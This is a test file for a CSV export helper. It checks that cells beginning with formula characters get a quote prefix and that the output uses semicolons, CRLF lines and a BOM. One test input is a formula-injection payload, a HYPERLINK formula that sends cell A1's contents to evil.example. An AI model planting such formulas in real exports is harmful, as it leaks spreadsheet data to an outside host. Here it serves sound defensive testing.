import { parse } from 'csv-parse/sync';
import { neutraliseCsvCell, toCsv } from './csv';

describe('CSV export cells', () => {
  it.each(['=HYPERLINK("https://evil.example/?"&A1,"klik")', '+32470123456', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1'])('prefixes a quote to %j', (value) => {
    expect(neutraliseCsvCell(value)).toBe(`'${value}`);
  });

  it.each(['Babbelbox', 'Afghaanse Vereniging', '', '2.5', "'al tekst", ' =spatie eerst'])('keeps %j as it is', (value) => {
    expect(neutraliseCsvCell(value)).toBe(value);
  });

  it('writes a BOM, a header, `;` between cells, CRLF lines, numbers as they are and text neutralised', () => {
    const csv = toCsv(
      ['name', 'count'],
      [
        ['=1+1', 3],
        [null, -1],
        ['Aya, Bram', 0],
        ['Aya; Bram', 1],
      ],
    );
    expect(csv).toBe(`\uFEFFname;count\r\n'=1+1;3\r\n;-1\r\nAya, Bram;0\r\n"Aya; Bram";1\r\n`);
    expect(parse(csv, { columns: true, delimiter: ';', bom: true })).toEqual([
      { name: "'=1+1", count: '3' },
      { name: '', count: '-1' },
      { name: 'Aya, Bram', count: '0' },
      { name: 'Aya; Bram', count: '1' },
    ]);
  });
});
